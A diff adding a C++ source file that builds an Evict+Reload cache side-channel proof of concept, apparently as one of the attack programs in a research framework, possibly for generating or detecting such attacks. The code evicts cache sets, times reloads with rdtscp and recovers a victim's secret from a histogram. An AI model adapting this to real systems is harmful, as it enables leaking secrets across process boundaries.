@@ -1,0 +1,111 @@
+// Evict+Reload (Gruss et al., USENIX Sec'15): like Flush+Reload but evicts
+// the shared line by loading an eviction set (attacker-owned lines mapping
+// to the same LLC set) instead of executing clflush — usable where clflush
+// is unavailable. The inclusive LLC back-invalidates L1 on eviction.
+#include "attacks/registry.h"
+
+#include "isa/builder.h"
+
+namespace scag::attacks {
+
+using namespace scag::isa;  // NOLINT: builder DSL
+
+isa::Program er_iaik(const PocConfig& config) {
+  const Layout& lay = config.layout;
+  // 16 ways in the default LLC: load 16 same-set lines to evict a set.
+  constexpr int kWays = 16;
+  ProgramBuilder b("ER-IAIK");
+  b.data_word(lay.secret_addr, config.secret);
+
+  b.label("main");
+  b.xor_(reg(Reg::R15), reg(Reg::R15));
+  b.mov(reg(Reg::RCX), imm(config.rounds));
+
+  b.label("round_loop");
+  // ---- Evict phase: for each slot, walk its eviction set.
+  b.mov(reg(Reg::RDI), imm(0));  // slot
+  b.label("evict_slot_loop");
+  b.mark_relevant(true);
+  b.mov(reg(Reg::RAX), reg(Reg::RDI));
+  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
+  // rsi = attacker_array + slot*stride (congruent to the shared slot).
+  b.lea(reg(Reg::RSI),
+        mem(Reg::RAX, static_cast<std::int64_t>(lay.attacker_array)));
+  b.mov(reg(Reg::RDX), imm(0));  // way
+  b.label("evict_way_loop");
+  b.mov(reg(Reg::RBX), mem(Reg::RSI));
+  b.add(reg(Reg::RSI), imm(Layout::kSetAlias));
+  b.inc(reg(Reg::RDX));
+  b.cmp(reg(Reg::RDX), imm(kWays));
+  b.jl("evict_way_loop");
+  b.mark_relevant(false);
+  b.inc(reg(Reg::RDI));
+  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
+  b.jl("evict_slot_loop");
+  b.mfence();
+
+  b.call("victim");
+
+  // ---- Reload phase. Stylistically unlike Flush+Reload's: walks the
+  // slots backwards with shift-based addressing and an unsigned "below
+  // threshold" hit test (Evict+Reload codebases time differently).
+  b.mov(reg(Reg::R12), imm(Layout::kNumSlots - 1));
+  b.label("reload_loop");
+  b.mark_relevant(true);
+  b.mov(reg(Reg::R13), reg(Reg::R12));
+  b.shl(reg(Reg::R13), imm(11));  // * kSlotStride
+  b.rdtscp(Reg::R8);
+  b.mov(reg(Reg::RBX),
+        mem(Reg::R13, static_cast<std::int64_t>(lay.shared_array)));
+  b.rdtscp(Reg::R9);
+  b.sub(reg(Reg::R9), reg(Reg::R8));
+  b.cmp(reg(Reg::R9), imm(config.reload_threshold));
+  b.jae("reload_next");
+  b.mov(reg(Reg::RAX),
+        mem_idx(Reg::R15, Reg::R12, 8,
+                static_cast<std::int64_t>(lay.histogram)));
+  b.add(reg(Reg::RAX), imm(1));
+  b.mov(mem_idx(Reg::R15, Reg::R12, 8,
+                static_cast<std::int64_t>(lay.histogram)),
+        reg(Reg::RAX));
+  b.label("reload_next");
+  b.dec(reg(Reg::R12));
+  b.cmp(reg(Reg::R12), imm(0));
+  b.jge("reload_loop");
+  b.mark_relevant(false);
+
+  b.dec(reg(Reg::RCX));
+  b.jne("round_loop");
+
+  // ---- Argmax histogram -> recovered secret.
+  b.mov(reg(Reg::RDI), imm(0));
+  b.mov(reg(Reg::RBX), imm(-1));
+  b.mov(reg(Reg::RDX), imm(0));
+  b.label("argmax_loop");
+  b.mov(reg(Reg::RAX),
+        mem_idx(Reg::R15, Reg::RDI, 8,
+                static_cast<std::int64_t>(lay.histogram)));
+  b.cmp(reg(Reg::RAX), reg(Reg::RBX));
+  b.jle("argmax_next");
+  b.mov(reg(Reg::RBX), reg(Reg::RAX));
+  b.mov(reg(Reg::RDX), reg(Reg::RDI));
+  b.label("argmax_next");
+  b.inc(reg(Reg::RDI));
+  b.cmp(reg(Reg::RDI), imm(Layout::kNumSlots));
+  b.jl("argmax_loop");
+  b.mov(mem_abs(static_cast<std::int64_t>(lay.recovered_addr)),
+        reg(Reg::RDX));
+  b.hlt();
+
+  b.label("victim");
+  b.mark_relevant(true);
+  b.mov(reg(Reg::RAX), mem_abs(static_cast<std::int64_t>(lay.secret_addr)));
+  b.imul(reg(Reg::RAX), imm(Layout::kSlotStride));
+  b.mov(reg(Reg::RBX),
+        mem(Reg::RAX, static_cast<std::int64_t>(lay.shared_array)));
+  b.mark_relevant(false);
+  b.ret();
+  return b.build();
+}
+
+}  // namespace scag::attacks
